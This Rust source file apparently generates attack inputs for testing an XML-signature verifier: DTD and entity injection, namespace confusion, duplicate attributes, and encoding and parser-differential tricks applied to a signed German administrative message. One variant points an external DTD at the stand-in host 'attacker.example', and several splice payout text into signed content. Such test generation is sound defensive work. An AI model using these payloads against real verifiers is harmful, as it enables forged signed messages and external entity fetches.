//! Attacks on how a message is read: what two parsers read differently.

use super::forge::{Attack, Forge, signature, with};

impl Forge {
    pub fn parsers(&self, all: &mut Vec<Attack>) {
        self.declarations(all);
        self.namespaces(all);
        self.octets(all);
    }

    fn declarations(&self, all: &mut Vec<Attack>) {
        let class = "DTD and entities (CVE-2013-4517, CVE-2025-66567)";
        let signed = &self.whole;
        for (name, code, octets) in [
            ("doctype", "AW-0102", format!("<!DOCTYPE x>{signed}")),
            (
                "doctype-id-attribute",
                "AW-0102",
                format!("<!DOCTYPE x [<!ATTLIST a:fachdaten Id ID \"a\">]>{signed}"),
            ),
            (
                "doctype-default-attribute",
                "AW-0102",
                format!("<!DOCTYPE x [<!ATTLIST a:antrag.einreichen.0100 test CDATA \"true\">]>{signed}"),
            ),
            (
                "external-subset",
                "AW-0102",
                format!("<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">{signed}"),
            ),
            ("entity-in-content", "AW-0102", with(signed, "Anmeldung eines Hundes", "&evil;")),
            (
                "entity-with-doctype",
                "AW-0102",
                format!(
                    "<!DOCTYPE x [<!ENTITY evil \"Auszahlung\">]>{}",
                    with(signed, "Anmeldung eines Hundes", "&evil;")
                ),
            ),
            ("entity-in-digest-value", "AW-0102", with(signed, "<ds:DigestValue>", "<ds:DigestValue>&e;")),
            ("doctype-within", "AW-0102", with(signed, "<a:fachdaten>", "<!DOCTYPE y><a:fachdaten>")),
        ] {
            all.push(Attack { name: name.to_owned(), class, code, octets: octets.into_bytes() });
        }
    }

    fn namespaces(&self, all: &mut Vec<Attack>) {
        let signed = &self.whole;
        let dsig = "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"";
        let inner = signature(signed);
        let mut add = |name: &str, class, code, octets: String| {
            all.push(Attack { name: name.to_owned(), class, code, octets: octets.into_bytes() });
        };
        let confusion = "namespace confusion";
        for (name, uri) in [
            ("other", "http://www.w3.org/2000/09/xmldsig"),
            ("case", "http://www.w3.org/2000/09/XMLDSIG#"),
            ("space", "http://www.w3.org/2000/09/xmldsig# "),
            ("https", "https://www.w3.org/2000/09/xmldsig#"),
        ] {
            let code = if name == "space" { "AW-0101" } else { "AW-0120" };
            add(
                &format!("namespace-{name}"),
                confusion,
                code,
                with(signed, dsig, &format!("xmlns:ds=\"{uri}\"")),
            );
        }
        add(
            "namespace-none",
            confusion,
            "AW-0120",
            with(signed, inner, &inner.replace("ds:", "").replace("xmlns:ds", "x")),
        );
        let rebound = with(inner, "<ds:SignedInfo>", "<ds:SignedInfo xmlns:ds=\"urn:x\">");
        add("prefix-rebound", confusion, "AW-0122", with(signed, inner, &rebound));
        let lower =
            inner.replace("ds:Signature ", "ds:signature ").replace("</ds:Signature>", "</ds:signature>");
        add("name-in-small-letters", confusion, "AW-0120", with(signed, inner, &lower));
        add(
            "namespace-changed",
            confusion,
            "AW-0122",
            with(signed, "xmlns:f=\"urn:example:fach\"", "xmlns:f=\"urn:example:evil\""),
        );
        add(
            "default-namespace-added",
            confusion,
            "AW-0122",
            with(signed, "<nachrichtenkopf.g2g>", "<nachrichtenkopf.g2g xmlns=\"urn:evil\">"),
        );
        add("prefix-unbound", confusion, "AW-0101", with(signed, "<a:fachdaten>", "<a:fachdaten><x:y/>"));
        add(
            "prefix-undeclared",
            confusion,
            "AW-0101",
            with(signed, "<a:fachdaten>", "<a:fachdaten xmlns:f=\"\">"),
        );
        add(
            "xmlns-rebound",
            confusion,
            "AW-0101",
            with(signed, "<a:fachdaten>", "<a:fachdaten xmlns:xmlns=\"urn:x\">"),
        );
        add(
            "xml-rebound",
            confusion,
            "AW-0101",
            with(signed, "<a:fachdaten>", "<a:fachdaten xmlns:xml=\"urn:x\">"),
        );
        let typed = with(
            signed,
            "<f:antrag ",
            "<f:antrag xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" xmlns:t=\"urn:t\" i:type=\"t:evil\" ",
        );
        add("type-with-unsigned-prefix", confusion, "AW-0123", typed);

        let pollution = "attribute pollution";
        add("attribute-twice", pollution, "AW-0101", with(signed, "Id=\"a\"", "Id=\"evil\" Id=\"a\""));
        add(
            "attribute-twice-by-namespace",
            pollution,
            "AW-0101",
            with(
                signed,
                "<a:fachdaten>",
                "<a:fachdaten xmlns:p=\"urn:p\" xmlns:q=\"urn:p\" p:x=\"1\" q:x=\"2\">",
            ),
        );
        add(
            "declaration-twice",
            pollution,
            "AW-0101",
            with(signed, "<a:fachdaten>", "<a:fachdaten xmlns:p=\"urn:p\" xmlns:p=\"urn:q\">"),
        );
        add("attribute-added", pollution, "AW-0122", with(signed, "<a:fachdaten>", "<a:fachdaten x=\"\">"));
        add(
            "uri-with-other-namespace",
            pollution,
            "AW-0122",
            with(signed, "URI=\"\"", "xmlns:p=\"urn:p\" p:URI=\"#evil\" URI=\"\""),
        );
        add(
            "algorithm-twice",
            pollution,
            "AW-0101",
            with(signed, "<ds:DigestMethod ", "<ds:DigestMethod Algorithm=\"\" "),
        );
        add(
            "algorithm-with-other-namespace",
            pollution,
            "AW-0122",
            with(signed, "<ds:DigestMethod ", "<ds:DigestMethod ds:Algorithm=\"\" "),
        );
        add(
            "encoding-on-digest",
            pollution,
            "AW-0122",
            with(signed, "<ds:DigestValue>", "<ds:DigestValue Encoding=\"x\">"),
        );
    }

    fn octets(&self, all: &mut Vec<Attack>) {
        let class = "parser differentials (CVE-2025-66567 and others)";
        let signed = &self.whole;
        let content = "Anmeldung eines Hundes";
        let mut add = |name: &str, code, octets: Vec<u8>| {
            all.push(Attack { name: name.to_owned(), class, code, octets });
        };
        let text = |from: &str, to: &str| with(signed, from, to).into_bytes();
        add(
            "encoding-declared-otherwise",
            "AW-0104",
            format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{signed}").into_bytes(),
        );
        add(
            "utf-16",
            "AW-0104",
            format!("\u{feff}{signed}").encode_utf16().flat_map(u16::to_le_bytes).collect(),
        );
        let mut overlong = signed.clone().into_bytes();
        let at = signed.find(content).unwrap();
        overlong.splice(at..=at, [0xC1, 0x81]);
        add("overlong-utf-8", "AW-0104", overlong);
        add("version-1.1", "AW-0102", format!("<?xml version=\"1.1\"?>{signed}").into_bytes());
        add("nul", "AW-0101", text(content, "Anmeldung\0"));
        add("nul-by-reference", "AW-0101", text(content, "Anmeldung&#0;"));
        add("control-character", "AW-0101", text(content, "Anmeldung\u{1}"));
        add("noncharacter", "AW-0101", text(content, "Anmeldung\u{FFFF}"));
        add("declaration-within", "AW-0101", text("<a:fachdaten>", "<?xml version=\"1.0\"?><a:fachdaten>"));
        add("end-tag-of-another", "AW-0101", text("</f:antrag>", "</a:antrag>"));
        add("cdata-end-in-text", "AW-0101", text(content, "Anmeldung]]>"));
        add("double-hyphen-in-comment", "AW-0101", text(content, "Anmeldung<!-- -- -->"));
        add("less-in-attribute", "AW-0101", text("<a:fachdaten>", "<a:fachdaten x=\"<\">"));
        add("unquoted-attribute", "AW-0101", text("<a:fachdaten>", "<a:fachdaten x=y>"));
        add("text-behind-root", "AW-0101", format!("{signed}Auszahlung an mich").into_bytes());
        add("truncated", "AW-0101", signed.as_bytes()[..signed.len() - 5].to_vec());
        add("instruction-added", "AW-0122", text("<a:fachdaten>", "<?evil?><a:fachdaten>"));
        add("instruction-before-root", "AW-0122", format!("<?evil?>{signed}").into_bytes());
        add("instruction-behind-root-by-id", "AW-0123", format!("{}<?evil?>", self.by_id).into_bytes());
        add("text-changed", "AW-0122", text(content, "Auszahlung an mich"));
        add("white-space-changed", "AW-0122", text(content, "Anmeldung  eines Hundes"));
        add("carriage-return-by-reference", "AW-0122", text(content, "Anmeldung eines Hundes&#13;"));
        add(
            "element-renamed",
            "AW-0122",
            with(&with(signed, "<f:antrag ", "<f:Antrag "), "</f:antrag>", "</f:Antrag>").into_bytes(),
        );
        add("bom-within", "AW-0122", text(content, "\u{feff}Anmeldung eines Hundes"));
    }
}
